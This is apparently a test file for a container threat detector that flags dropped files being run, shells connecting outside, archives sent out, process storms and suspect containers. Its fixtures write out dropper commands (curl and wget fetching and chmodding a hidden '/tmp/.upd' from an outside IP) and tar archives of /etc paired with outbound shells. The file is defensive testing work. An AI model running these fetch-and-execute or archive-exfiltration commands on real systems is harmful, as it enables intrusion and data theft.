/** What is noticed because of what came before: files that were brought, archives, storms, containers under suspicion. */

import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { NodeObservation } from "../../../nodes/observation.ts";
import { anomaly, call, exec } from "./observations.ts";
import { Run } from "./run.ts";

/** The indicators of all early windows. */
function seen(...observations: readonly NodeObservation[]): readonly string[] {
  const run = new Run();
  for (const observation of observations) run.observe(observation);
  return [...new Set(run.windows.flatMap(({ indicators }) => indicators))];
}

const root = { uid: 0 };

describe("a file that was brought", () => {
  const dropped = "dropped_file_executed";

  it("is noticed when it is run, however it came", () => {
    for (const [binary, given] of [
      ["/usr/bin/curl", "-s -o /tmp/.upd http://198.51.100.23/u"],
      ["/usr/bin/wget", "-q http://198.51.100.23/.upd"],
      ["/usr/bin/chmod", "+x .upd"],
      ["/bin/sh", '-c "cd /tmp; wget http://198.51.100.23/.upd; chmod 755 ./.upd"'],
    ] as const) {
      assert.ok(seen(exec(1, binary, { given }), exec(2, "/tmp/.upd")).includes(dropped), given);
    }
  });

  it("is nothing where it was not brought, long ago, by another container, or runs from where programs are", () => {
    const curl = (seconds: number, image = "etcd:3.4") =>
      exec(seconds, "/usr/bin/curl", { given: "-o /tmp/job http://a.example/job", image });
    for (const others of [
      [exec(2, "/tmp/job")],
      [curl(1), exec(62, "/tmp/job")],
      [curl(1, "ops/fetch:1"), exec(2, "/tmp/job")],
      [curl(1), exec(2, "/tmp/other")],
      [curl(1), exec(2, "/usr/bin/job")],
      [exec(1, "/usr/bin/ls", { given: "/tmp/job" }), exec(2, "/tmp/job")],
    ]) {
      assert.ok(!seen(...others).includes(dropped));
    }
  });

  it("is not forgotten because others fetch as well, but those are bounded", () => {
    const probes = Array.from({ length: 15 }, (_, i) =>
      exec(2, "/usr/bin/curl", { given: `http://10.0.0.1/${"x".repeat(i + 1)}` }),
    );
    const fetch = exec(1, "/usr/bin/curl", { given: "-o /tmp/.upd" });
    assert.ok(seen(fetch, ...probes, exec(3, "/tmp/.upd")).includes(dropped));
    assert.ok(
      !seen(
        fetch,
        ...probes,
        ...probes.slice(0, 1),
        exec(2, "/usr/bin/curl", { given: "more" }),
        exec(3, "/tmp/.upd"),
      ).includes(dropped),
    );
  });
});

describe("a shell that connects", () => {
  it("to the internet is noticed, and beside an archive that was handed on all the more", () => {
    const outside = call(2, "/usr/bin/bash", "198.51.100.7:443");
    assert.deepEqual(seen(outside), ["shell_connected_outside"]);
    for (const [binary, given] of [
      ["/usr/bin/tar", "czf - /var/lib/data"],
      ["/bin/sh", '-c "tar cz - /etc | cat"'],
    ] as const) {
      assert.deepEqual(seen(exec(1, binary, { given }), outside), ["shell_connected_outside", "archive_sent_outside"]);
    }
    assert.deepEqual(seen(exec(1, "/usr/bin/tar", { given: "czf /backup/a.tgz /var" }), outside), [
      "shell_connected_outside",
    ]);
  });

  it("within the own network, or is none, is nothing", () => {
    for (const to of [
      "10.96.0.10:53",
      "127.0.0.1:8080",
      "192.168.3.4:443",
      "::1:80",
      "fd00::7:443",
      "db.example:5432",
    ]) {
      assert.deepEqual(seen(call(1, "/usr/bin/bash", to)), [], to);
    }
    assert.deepEqual(seen(call(1, "/usr/bin/curl", "198.51.100.7:443")), []);
    assert.deepEqual(seen(call(1, "/bin/sh", "2001:db8::7:443")), ["shell_connected_outside"]);
  });
});

describe("a storm of processes", () => {
  const starts = (rate: number, seconds: number, image = "etcd:3.4", from = 0) =>
    Array.from({ length: rate * seconds }, (_, i) => exec(from + i / rate, "/bin/true", { image }));

  it("is noticed within seconds, by whose it is", () => {
    assert.deepEqual(seen(...starts(30, 13)), ["process_storm"]);
    assert.deepEqual(seen(...starts(80, 4)), ["process_storm"]);
  });

  it("is neither a start-up, nor work that goes on, nor what many do together", () => {
    assert.deepEqual(seen(...starts(200, 1)), []);
    assert.deepEqual(seen(...starts(10, 120)), []);
    const many = Array.from({ length: 10 }, (_, i) => starts(9, 20, `image-${i}`)).flat();
    assert.deepEqual(seen(...many.toSorted((one, other) => one.time - other.time)), []);
  });

  it("is none because a clock is set back", () => {
    const ahead = exec(600, "/bin/true");
    assert.deepEqual(seen(ahead, ...starts(9, 100)), []);
  });
});

describe("a container whose processes were noticed", () => {
  it("is looked at again when its detector finds something, and no other", () => {
    const suspect = "suspect_container_anomaly";
    assert.ok(seen(exec(1, "/tmp/x", root), anomaly(2, "medium", "etcd:3.4")).includes(suspect));
    assert.ok(seen(exec(1, "/tmp/x", root), anomaly(59, "high", "etcd:3.4")).includes(suspect));
    assert.ok(!seen(exec(1, "/tmp/x", root), anomaly(2, "low", "etcd:3.4")).includes(suspect));
    assert.ok(!seen(exec(1, "/tmp/x", root), anomaly(2, "medium", "redis:7")).includes(suspect));
    assert.ok(!seen(anomaly(2, "medium", "etcd:3.4")).includes(suspect));
  });
});
